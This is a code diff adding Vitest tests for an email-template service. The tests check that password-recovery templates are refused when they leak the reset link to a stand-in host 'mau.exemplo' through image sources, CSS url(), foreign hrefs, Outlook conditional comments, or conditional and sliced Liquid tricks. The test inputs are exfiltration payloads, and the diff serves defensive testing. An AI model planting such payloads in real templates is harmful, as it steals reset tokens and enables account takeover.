@@ -1,6 +1,7 @@
 import { idiomas } from '@zelo/contract/nucleo/enums'
 import { tipoTemplateEmail } from '@zelo/contract/nucleo/enums.schema'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { renderizarModelo } from '#avisos/email/renderizar.ts'
 import { lerMensagem, startSmtp } from '#platform/mail/test-smtp.ts'
 import { cpfs, useTestApp } from '#test/app.ts'
 import { eventually } from '#test/eventually.ts'
@@ -89,6 +90,38 @@ it('a saved template is used for the next e-mail', async () => {
   expect(email.subject).toBe('Sua nova senha, Helena')
   expect(email.text).toMatch(/^Oi, Helena\. Abra http\S+token=\S+\s*$/)
   expect(email.html).toContain('Quero outra senha')
+})
+
+describe('the link of an e-mail', () => {
+  const html = modelosPadrao.br.CONTA_RECUPERACAO_SENHA.corpoHtml
+  it.each([
+    ['in the address of a picture', '<img src="https://mau.exemplo/{{ link }}">'],
+    ['recoded for one', '{% capture u %}https://mau.exemplo/{{ link }}{% endcapture %}<img src="{{ u }}">'],
+    ['in a style', '<p style="background:url(https://mau.exemplo/{{ link }})">x</p>'],
+    ['in a style sheet', '<style>p{background:url(https://mau.exemplo/{{ link }})}</style>'],
+    ['behind a link of somebody else', '<a href="https://mau.exemplo/?para={{ link }}">Criar nova senha</a>'],
+    ['in a comment that Outlook reads', '<!--[if mso]><img src="https://mau.exemplo/{{ link }}"><![endif]-->'],
+  ])('is refused %s', async (_, mais) => {
+    const salvo = await salvar({ corpo_html: html + mais })
+    expect(salvo.statusCode).toBe(422)
+    expect(salvo.json().campos.corpo_html).toContain('chegaria a outros')
+  })
+
+  it('does not leave with a template that shows the samples nothing bad', async () => {
+    const link = 'https://zelo.exemplo/auth?token=Q7xSecret'
+    const variaveis = { ...amostras.CONTA_RECUPERACAO_SENHA[0].variaveis, nome: 'Ivo', link }
+    const escrever = (mais: string) => {
+      const modelo = { ...modelosPadrao.br.CONTA_RECUPERACAO_SENHA, corpoHtml: html + mais }
+      return renderizarModelo(modelo, 'CONTA_RECUPERACAO_SENHA', 'br', variaveis)
+    }
+    const soParaOutros = "{% if usuario.nome != 'Helena' %}<img src='https://mau.exemplo/{{ link }}'>{% endif %}"
+    await expect(escrever(soParaOutros)).rejects.toThrow('leaks its link')
+    const letra = "{% if link contains 'Q7x' %}<img src='https://mau.exemplo/Q7x'>{% endif %}"
+    const pedaco = '<img src="https://mau.exemplo/{{ link | slice: -9, 9 | url_encode }}">'
+    const { html: pronto } = await escrever(letra + pedaco)
+    expect(pronto.match(/mau\.exemplo\/[^"']*/g)).toEqual([expect.not.stringMatching(/Q7x|Secret/)])
+    expect(pronto).toContain(`href="${link}"`)
+  })
 })
 
 describe('a text is refused on save, and the answer says what to do:', () => {
